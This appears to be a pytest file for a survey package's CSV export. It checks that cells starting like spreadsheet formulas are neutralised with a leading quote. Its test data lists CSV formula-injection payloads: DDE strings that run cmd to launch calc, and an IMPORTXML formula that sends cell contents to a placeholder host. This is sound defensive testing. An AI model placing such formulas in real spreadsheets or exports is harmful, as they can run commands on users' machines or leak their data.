"""No cell of a CSV file is taken for a formula, whatever a text begins with."""

from __future__ import annotations

import pytest

from surveys.formats.csv_cells import cell_of, records_as_csv, safe_text

# What spreadsheets have been seen to run, and texts that only look like it.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.org","x")',
    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
]  # fmt: skip
HARMLESS = ["affair", "age=22 & late", "a-b", "1+1", "é=1", "affair, 'quoted' \"twice\""]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


def test_cells_are_plain_and_lines_hold_them_in_the_order_of_the_columns() -> None:
    assert [cell_of(value) for value in (None, True, -0.5, "\r=1+1")] == ["", 1, -0.5, "'\r=1+1"]
    lines = list(records_as_csv(("b", "a"), [{"a": "=1", "b": None}]))
    assert lines == ["b,a\r\n", ",'=1\r\n"]
